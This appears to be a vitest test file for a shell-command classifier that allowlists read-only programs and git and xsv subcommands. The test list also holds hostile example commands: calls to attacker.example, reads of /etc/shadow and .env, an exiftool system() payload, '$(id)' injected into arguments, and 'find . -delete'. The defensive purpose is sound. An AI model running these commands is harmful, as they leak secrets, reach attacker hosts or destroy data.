/**
 * The closed list of programs that only read, written out by hand: a program comes on it only when it takes no code,
 * configuration or plugins from the folder, opens only the files that its words name, hands nothing to another program,
 * shows nothing in a pager, and uses neither the network nor the clipboard. Two programs of one name must take the same
 * flags alike.
 */
import { readdirSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";
import { describe, expect, test } from "vitest";
import { judgeArgv } from "./judge-argv.js";
import type { ProgramData, ProgramFile } from "./program-data.js";

const words = (text: string): readonly string[] => text.split(/\s+/).filter((word) => word !== "");

const PROGRAMS = words(`
  : [ ag apropos arch atq awk b2sum base16 base32 base58 base64 basename basenc bc break bridge cal cat cd cksum
  cmp column comm command continue cut date df diff dir dirname dirs du dust echo egrep exa exit expand export expr eza
  factor false fd fdfind fgrep file find findmnt fmt fold free gawk getconf getfacl gfind gojq grep groups
  gsed hd head help hexdump hexyl history hostname iconv id ifconfig iostat ip jaq jobs join jq last
  lastlog logname ls lsattr lsblk lscpu lsd lsipc lslocks lsmod lsns lsof lspci lsusb mawk md5 md5sum mount
  mpstat nawk netstat nl nproc numfmt od paste pathchk pgrep pidof popd pr printenv printf ps pstree pushd pwd
 read readlink realpath return rev rg sed seq set sha1sum sha224sum sha256sum sha384sum sha512sum shasum shuf sleep sort
  ss stat sum sysctl tac tail test tr tree true tsort tty type ul umask uname unexpand uniq unset uptime users
  uuencode vdir vmstat w wait wc whatis whereis which who whoami xargs xxd yes
  benchstat choose csvcut csvformat csvgrep csvjson csvlook csvsort csvstack csvstat difft duf gron htmlq ioreg jdeps jo
  lipo locale mdls nvidia-smi otool pdfinfo plutil pup sd sensors sips sw_vers tidy
`);

const XSV_SUBCOMMANDS = words(
  "count fixlengths flatten frequency headers reverse search select slice sort stats table",
);

/** Only with the settings that are forced on git when it is started. */
const GIT_SUBCOMMANDS = [
  "annotate",
  "blame",
  "branch",
  "cat-file",
  "check-attr",
  "check-ignore",
  "check-ref-format",
  "cherry",
  "count-objects",
  "describe",
  "diff",
  "diff-files",
  "diff-index",
  "diff-tree",
  "for-each-ref",
  "fsck",
  "grep",
  "log",
  "ls-files",
  "ls-tree",
  "merge-base",
  "name-rev",
  "notes list",
  "notes show",
  "range-diff",
  "reflog",
  "remote",
  "remote get-url",
  "replace",
  "rev-list",
  "rev-parse",
  "shortlog",
  "show",
  "show-branch",
  "show-ref",
  "stash list",
  "stash show",
  "status",
  "symbolic-ref",
  "tag",
  "var",
  "verify-pack",
  "version",
  "whatchanged",
  "worktree list",
];

function readersIn(name: string, data: ProgramData): readonly string[] {
  const inside = Object.entries(data.subcommands ?? {}).flatMap(([names, sub]) =>
    names.split(" ").flatMap((one) => readersIn(`${name} ${one}`, sub)),
  );
  return data.onlyReads ? [name, ...inside] : inside;
}

test("lists as readers only the programs that are written out here", () => {
  const folder = fileURLToPath(new URL("data/", import.meta.url));
  const files = readdirSync(folder).map(
    (file) => JSON.parse(readFileSync(`${folder}${file}`, "utf8")) as ProgramFile,
  );
  const found = files.flatMap(({ programs }) =>
    Object.entries(programs).flatMap(([names, data]) =>
      names.split(" ").flatMap((name) => readersIn(name, data)),
    ),
  );
  expect(found.toSorted()).toEqual(
    [
      ...PROGRAMS,
      ...GIT_SUBCOMMANDS.map((name) => `git ${name}`),
      ...XSV_SUBCOMMANDS.map((name) => `xsv ${name}`),
    ].toSorted(),
  );
});

describe("a program that does more than read is no reader", () => {
  test.each([
    "yarn why x",
    "pnpm list",
    "pnpm view x",
    "npm outdated",
    "npm ls",
    "yarn audit",
    "getent hosts data.attacker.example",
    "finger data@attacker.example",
    "mediainfo http://attacker.example/x",
    "exiftool -p '${FileName;system(1)}' a.png",
    "gron http://attacker.example/x",
    "gron HTTP://attacker.example/x",
    "mediainfo HTTP://attacker.example/x",
    "jdeps @words a.jar",
    "otool @words",
    "lipo -info @words",
    "benchstat x=/etc/passwd",
    "xsv index a.csv",
    "xsv split out a.csv",
    "xsv sort -o b.csv a.csv",
    "csvgrep -c 1 --frob a.csv",
    "sd a b a.txt",
    "jo a=@.env",
    "jo a:=.env",
    "netstat -a",
    "lsof -i :3000",
    "lsof -n -i @attacker.example",
    "lsof -n +m/etc/shadow",
    "lsof -n -D/tmp/x",
    "nvidia-smi -r",
    "nvidia-smi -f a.log",
    "nvidia-smi topo -m",
    "plutil -convert xml1 a.plist",
    "plutil -replace a -string b a.plist",
    "sips -z 10 10 a.png",
    "lipo -create a b -output c",
    "tidy -m a.html",
    "tidy -config x a.html",
    "htmlq -o out a",
    "sw_vers x",
    "duf --frob",
    "jdeps -dotoutput x a.jar",
    "man man",
    "journalctl",
    "dmesg -H",
    "pbpaste",
    "wl-paste",
    "lshw -dump .git/hooks/post-checkout",
    "sysctl -n /../../etc/shadow",
    "less a.txt",
    "bat a.txt",
    "cargo metadata",
    "go list ./...",
    "docker ps",
    "kubectl get pods",
    "dig x.example",
    "ping x.example",
    "hostname -f",
    "tree -o out.txt",
    "find . -delete",
    "sort -o out a",
    "tar xf a.tar",
    "unzip a.zip",
    "git log --output=x",
    "git help log",
    "git log --show-signature",
    "git log --format=%G?",
    "git cat-file --textconv HEAD:a",
    "git grep -O x",
    "ps -axe",
    "printenv",
    "env",
    "tar tf a.tar",
    "unzip -l a.zip",
    "nm @words",
    "zcat a.gz",
    "zgrep x a.gz",
    "strings a",
    "dpkg -l x",
    "locate x",
    "diff3 a b c",
    "diff -l a b",
    "md5sum -c list",
    "sha256sum --check list",
    "cksum -c list",
    "sed -l 5 p f",
    "column -n x f",
    "grep -C x secret",
    "ps E",
    "getconf -v ../x ARG_MAX",
    "exit 'path[$(id)]'",
    "[ 'path[$(id)]' -eq 1 ]",
    "test 1 -lt 'path[$(id)]'",
    "test -t 'path[$(id)]'",
    "printf %n PATH",
    "printf %d 'path[$(id)]'",
    "uniq src/[12].txt",
    "xxd src/[12].txt",
  ])("%s", (line) => {
    const argv = [...line.matchAll(/'([^']*)'|(\S+)/g)].map(([, quoted, plain]) => quoted ?? plain ?? "");
    expect(judgeArgv(argv).onlyReads).toBe(false);
  });
});
